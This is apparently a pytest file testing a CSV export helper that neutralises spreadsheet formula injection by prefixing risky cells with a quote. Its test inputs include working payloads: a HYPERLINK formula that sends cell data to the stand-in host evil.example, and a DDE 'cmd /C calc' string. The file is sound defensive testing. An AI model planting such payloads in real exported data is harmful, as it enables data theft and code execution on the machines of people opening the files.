"""Spreadsheet formula injection: the one rule every CSV writer of the portal applies."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from espace.core.csv_cells import safe_cell, safe_row


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")',
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\uff1d1+1",
        "-",
        "+",
        "=",
        "@",
    ],
)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(hostile):
    assert safe_cell(hostile) == "'" + hostile


@pytest.mark.parametrize(
    "plain",
    [
        "Fuite sous l'évier",
        "",
        "2026-01-05T10:00:00",
        "MRH0412857",
        " =1+1",
        "'déjà cité",
        "a=b",
        "Question : -5 € ?",
    ],
)
def test_ordinary_text_is_unchanged(plain):
    assert safe_cell(plain) == plain


@pytest.mark.parametrize(
    "number",
    [
        0,
        -1250,
        12.5,
        Decimal("-12.34"),
        True,
        None,
        "-12,34",
        "+33612345678",
        "15,53",
        "-0.5",
        "42",
    ],
)
def test_numbers_stay_numbers(number):
    assert safe_cell(number) == number


def test_a_row_read_back_by_the_csv_module_keeps_the_quote_and_the_amounts():
    out = io.StringIO()
    csv.writer(out, delimiter=";").writerow(safe_row(["=1+1", "-12,34", -1250, "Parquet"]))
    assert next(csv.reader(io.StringIO(out.getvalue()), delimiter=";")) == [
        "'=1+1",
        "-12,34",
        "-1250",
        "Parquet",
    ]
